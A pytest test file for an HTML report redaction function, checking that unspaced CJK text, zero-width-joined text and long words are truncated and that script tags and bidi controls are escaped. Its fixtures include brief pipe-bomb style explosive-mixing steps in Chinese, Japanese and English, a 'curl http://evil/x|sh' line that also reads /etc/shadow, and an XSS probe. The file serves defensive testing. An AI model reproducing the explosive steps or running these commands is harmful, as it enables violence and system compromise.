"""Issue 16.9: default redaction hides text by characters, not whitespace words."""

from __future__ import annotations

import pytest

from brittle.report.html import redact

SECRET = "ammonium nitrate and fuel oil"


def _shown(html: str) -> str:
    return html.split(' <span class="redacted">')[0]


@pytest.mark.parametrize("text", [
    "第一步：把硝酸铵和燃料油按九十四比六的比例混合，然后装进密封的钢管里再接上引信",  # CJK, no spaces
    "ステップ1：硝酸アンモニウムと燃料油を混ぜて、鋼管に詰めてから起爆装置を取り付けます",
    "Step\u200b1:\u200bmix\u200bammonium\u200bnitrate\u200band\u200bfuel\u200boil\u200bthen\u200bpack\u200bit",
    "Step\u20601:\u2060mix\u2060ammonium\u2060nitrate\u2060and\u2060fuel\u2060oil\u2060then\u2060pack",
    "Step\u200d1:\u200dmix\u200dammonium\u200dnitrate\u200dand\u200dfuel\u200doil\u200dthen\u200dpack",
    "import os;os.system('curl http://evil/x|sh');open('/etc/shadow').read();exfiltrate(all_the_data)",
    "x" * 5000,
])
def test_text_without_spaces_is_cut(text):
    out = redact(text)
    assert "redacted" in out, out  # before the fix: shown in full (split() found one "word")
    shown = _shown(out)
    assert len(shown) <= 48
    assert "\u200b" not in shown and "\u2060" not in shown


def test_english_keeps_the_first_words():
    out = redact("Step 1: <b>mix</b> the chemicals then heat them slowly", keep_words=3)
    assert out.startswith("Step 1: &lt;b&gt;mix&lt;/b&gt;") and "heat" not in out and "redacted" in out
    assert redact("short <i>") == "short &lt;i&gt;"
    assert redact("A fine, short sentence.") == "A fine, short sentence."


def test_long_words_are_cut_by_characters():
    out = redact("Supercalifragilisticexpialidocious-antidisestablishmentarianism-" * 3)
    assert "redacted" in out and len(_shown(out)) <= 40


def test_wide_characters_weigh_more():
    out = redact("一二三四五六七八九十百千万")
    assert _shown(out) == "一二三四五六七八九十"


def test_graphemes_are_never_split_and_marks_cannot_hide_text():
    assert redact("👨\u200d👩\u200d👧 e\u0301") == "👨\u200d👩\u200d👧 e\u0301"
    zalgo = "a" + "\u0301" * 200 + "bcdefghijklmnopqrstuvwxyz" * 3
    assert "redacted" in redact(zalgo)


def test_bidi_controls_are_dropped_and_everything_escaped():
    out = redact("\u202e<script>alert(1)</script>\u202c now do it step by step please")
    assert "\u202e" not in out and "<script>" not in out and "&lt;script&gt;" in out


def test_disabled_shows_everything_escaped():
    assert redact("第一步<b>", enabled=False) == "第一步&lt;b&gt;"
